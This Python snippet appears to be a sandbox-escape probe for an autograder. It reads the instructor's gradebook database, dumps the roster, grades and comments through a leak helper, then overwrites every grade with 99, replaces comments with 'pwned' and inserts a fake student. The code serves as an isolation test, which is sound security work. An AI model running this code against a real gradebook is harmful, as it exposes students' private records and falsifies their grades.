"""Open the instructor's real gradebook with sqlite3 (C code does the file I/O): read the roster,
every grade and comment, then give everyone extra credit, raise max scores and add a student.

Got out: the roster or comments in the output, or any gradebook row of another learner (or the
assignment's points) differs after the run.
"""
import sqlite3

for path in (f"{_COURSE}/gradebook.db", f"{_REPO}/autograder/course/gradebook.db"):
    try:
        db = sqlite3.connect(path, timeout=30)
        for table in ("student", "grade", "comment", "submitted_assignment", "grade_cells", "source_cells"):
            try:
                _leak(repr(db.execute(f"select * from {table}").fetchall()).encode(), f"{path}:{table}")
            except sqlite3.Error as exc:
                print(table, exc)
        db.execute("update grade set extra_credit = 99, manual_score = 99")
        db.execute("update comment set manual_comment = 'pwned " + _MARK + "'")
        db.execute("update grade_cells set max_score = 100")
        db.execute("insert into student (id, first_name, last_name, email, lms_user_id) "
                   "values ('" + _MARK + "', 'x', 'y', 'z', 'w')")
        db.commit()
        print("rewrote", path)
    except Exception as exc:
        print(path, type(exc).__name__, exc)
